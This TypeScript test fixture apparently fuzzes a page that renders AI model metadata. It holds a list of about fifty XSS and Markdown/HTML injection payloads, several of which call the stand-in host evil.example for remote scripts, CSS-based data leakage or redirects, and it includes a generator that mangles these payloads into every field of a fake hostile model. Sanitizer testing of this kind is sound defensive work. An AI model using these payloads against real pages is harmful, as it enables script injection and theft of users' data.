/** One model whose publisher means harm: everything that the page shows of it is theirs. */
export interface HostileModel {
  readonly name: string;
  readonly author: string;
  readonly description: string;
  readonly license: string;
  readonly task: string;
  readonly tags: readonly string[];
  /** Names of model files, without their suffix. */
  readonly files: readonly string[];
  readonly readme: string;
}

const OUTSIDE = 'https://evil.example';
/** What no part of the page may ever run. */
const RUN = 'globalThis.hit=1;alert(1)';

/** Known tricks, each alone. */
export const TRICKS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=${OUTSIDE}/x.js></script>`,
  `</p></main><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${OUTSIDE}/pixel.png>`,
  `<img src=x onerror=${RUN}//`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><script>${RUN}</script><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<svg><image href="${OUTSIDE}/x.png"/><use href="${OUTSIDE}/x.svg#a"/></svg>`,
  `<svg><style>*{background:url(${OUTSIDE}/x)}</style></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<a href="javascript:${RUN}">x</a> [x](javascript:${RUN}) [x](JaVa\tScRiPt:${RUN})`,
  `<a href="command:workbench.action.quit">x</a> [x](command:workbench.action.terminal.new)`,
  `[x](vscode://evil/x) [x](file:///etc/passwd) [x](data:text/html,<script>${RUN}</script>)`,
  `<style>h1{background:url(${OUTSIDE}/a)} input[value^=a]{background:url(${OUTSIDE}/b)}</style>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:url(${OUTSIDE}/x)">x</div>`,
  `<link rel=stylesheet href=${OUTSIDE}/x.css><link rel=prefetch href=${OUTSIDE}/y>`,
  `<meta http-equiv=refresh content="0;url=${OUTSIDE}">`,
  `<base href="${OUTSIDE}/"><a href="x">x</a>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe><iframe src=${OUTSIDE}></iframe>`,
  `<object data=${OUTSIDE}></object><embed src=${OUTSIDE}><portal src=${OUTSIDE}></portal>`,
  `<video src=${OUTSIDE}/v autoplay onloadstart="${RUN}"><source onerror="${RUN}"></video>`,
  `<audio src=${OUTSIDE}/a autoplay></audio><track src=${OUTSIDE}/t>`,
  `<form action=${OUTSIDE}><input autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">x</button></form>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<b tabindex=0 autofocus onfocus="${RUN}" id=x>x</b><marquee onstart="${RUN}">x</marquee>`,
  `<img name=getElementById><form id=details name=body><input name=attributes></form>`,
  `<a id=said href=x></a><b id=phases></b><p id=name>x</p>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<vscode-button onclick="${RUN}" autofocus>x</vscode-button><x-y onanimationstart="${RUN}">x</x-y>`,
  `<!--><img src=x onerror=${RUN}>--> <![CDATA[<img src=x onerror=${RUN}>]]> <?php ${RUN} ?>`,
  `\`\`\`html"><img src=x onerror=${RUN}>\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `![x](${OUTSIDE}/i.png "t\\" onerror=${RUN}") ![x](x" onerror="${RUN})`,
  `[![x](${OUTSIDE}/i.png)](javascript:${RUN}) <${OUTSIDE}/auto> <javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x] [y][x]\n\n[^1]: <script>${RUN}</script>`,
  `\u202e<script>${RUN}</script>\u202c \u2066fdp.exe\u2069 \u200f\u061c\u200bfugg.ledom`,
  `\u0000<scr\u0000ipt>${RUN}</scr\u0000ipt>\ufeff\ufffd`,
  `<sCrIpT/x>${RUN}</sCrIpT\t> <img/src=x/onerror=${RUN}>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#x3c;img src=x onerror=${RUN}&#x3e;`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `<img srcset="${OUTSIDE}/a 1x, ${OUTSIDE}/b 2x"><picture><source srcset=${OUTSIDE}/c></picture>`,
  `<table background=${OUTSIDE}/t><td background=${OUTSIDE}/d>x</table><body background=${OUTSIDE}/b>`,
  `<input type=image src=${OUTSIDE}/i><isindex action=javascript:${RUN} type=submit>`,
  `<a ping=${OUTSIDE}/ping href=${OUTSIDE} target=_top download>x</a>`,
  `<div popover id=p>x</div><button popovertarget=p>x</button><dialog open>x</dialog>`,
];

/** A model with tricks in each of its parts: known ones, put together and broken as chance has it. */
export function hostileModel(random: () => number): HostileModel {
  const one = <T>(of: readonly T[]): T => of[Math.floor(random() * of.length)] as T;
  const some = (most: number, make: () => string): string[] =>
    Array.from({ length: Math.ceil(random() * most) }, make);
  const piece = (): string => {
    const trick = one(TRICKS);
    const at = Math.floor(random() * trick.length);
    switch (Math.floor(random() * 6)) {
      case 0:
        return trick.slice(0, at);
      case 1:
        return trick.slice(at);
      case 2:
        return trick.slice(0, at) + one(TRICKS) + trick.slice(at);
      case 3:
        return trick.replaceAll('<', one(['<', '<\n', '</', '<<', '&lt;', '<!']));
      case 4:
        return trick.toUpperCase();
      default:
        return trick;
    }
  };
  const wrapped = (): string => {
    const text = piece();
    const before = one([
      '',
      '> ',
      '- ',
      '1. ',
      '# ',
      '| a |\n| - |\n| ',
      '<div>\n\n',
      '**',
      '`',
      '<p>',
    ]);
    return `${before}${text}${one(['', '</div>', ' |', '**', '`', '-->', '"\'>', '</style>'])}`;
  };
  const name = (): string => piece().slice(0, 400);
  return {
    name: name(),
    author: name(),
    description: piece(),
    license: name(),
    task: name(),
    tags: some(6, name),
    // A path ends where its folder does.
    files: some(4, () => `${name()}-${one(['Q4_K_M', 'Q8_0', 'IQ2_XS'])}`),
    readme: some(12, wrapped).join(one(['\n\n', '\n', ' '])),
  };
}
